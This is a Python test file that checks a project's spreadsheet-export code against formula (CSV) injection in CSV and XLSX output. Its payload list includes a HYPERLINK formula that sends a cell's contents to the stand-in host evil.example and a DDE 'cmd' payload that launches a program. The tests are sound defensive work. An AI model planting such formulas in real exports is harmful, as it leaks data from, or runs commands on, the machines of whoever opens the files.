"""Spreadsheet formula injection (issue 16, finding 3): the known payloads are neutralised in
every CSV (a leading ``'``, OWASP's rule) and written as plain strings in every XLSX."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pandas as pd
import pytest

from serviq.formulas import FORMULA_LEADS, csv_cell, csv_frame, is_formula_like, xlsx_bytes

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign
    "＋1+1",
    "－2+3",
    "＠SUM(1+1)",
]
BENIGN = ["服务很好", "ok = fine", "3-2", "", "a@b.example", " =1+1 is not at the start"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_prefixed_in_csv(payload: str) -> None:
    assert is_formula_like(payload)
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", BENIGN)
def test_ordinary_text_and_numbers_are_left_alone(text: str) -> None:
    assert csv_cell(text) == text
    assert csv_cell(-2.5) == -2.5  # a negative number is a value, not a formula
    assert csv_cell(None) is None


def test_the_leads_are_owasps_and_their_full_width_forms() -> None:
    assert set(FORMULA_LEADS) == {"=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"}


def test_a_frame_is_neutralised_cell_by_cell_and_in_its_header() -> None:
    frame = pd.DataFrame({"comment": PAYLOADS, "n": range(len(PAYLOADS)), "=x": 1})
    out = csv_frame(frame)
    assert out["comment"].tolist() == ["'" + p for p in PAYLOADS]
    assert out["n"].tolist() == list(range(len(PAYLOADS)))
    assert list(out.columns) == ["comment", "n", "'=x"]
    assert frame["comment"].tolist() == PAYLOADS  # the input is not changed


def test_xlsx_writes_payloads_as_strings_never_formulas() -> None:
    body = xlsx_bytes(
        "export", ["id", "comment", "=head"], [[i, p, None] for i, p in enumerate(PAYLOADS)]
    )
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "<f " not in sheet
    ws = openpyxl.load_workbook(io.BytesIO(body)).active
    assert ws.cell(1, 3).value == "=head"
    assert ws.cell(1, 3).data_type == "s"
    for row, payload in enumerate(PAYLOADS, start=2):
        cell = ws.cell(row, 2)
        assert cell.data_type == "s"
        # OOXML escapes a carriage return as _x000D_, which openpyxl leaves as it is
        assert cell.value.replace("_x000D_", "\r") == payload
        assert cell.quotePrefix  # editing the cell keeps it text
        assert ws.cell(row, 1).value == row - 2  # numbers stay numbers


def test_the_cli_writes_neutralised_csv_and_xlsx(run_cli, tmp_path) -> None:
    data = tmp_path / "comments.csv"
    pd.DataFrame({"text": [*PAYLOADS[:5], "我的电话是13812345678"]}).to_csv(data, index=False)
    code, _, err = run_cli(
        "text", "redact", str(data), "--column", "text", "--out", str(tmp_path / "out.csv")
    )
    assert code == 0, err
    rows = list(csv.reader(io.StringIO((tmp_path / "out.csv").read_text(encoding="utf-8-sig"))))
    assert [r[0] for r in rows[1:6]] == ["'" + p for p in PAYLOADS[:5]]
    code, _, err = run_cli(
        "text", "redact", str(data), "--column", "text", "--out", str(tmp_path / "out.xlsx")
    )
    assert code == 0, err
    ws = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    assert [ws.cell(r, 1).data_type for r in range(2, 7)] == ["s"] * 5
    assert [ws.cell(r, 1).value for r in range(2, 7)] == PAYLOADS[:5]
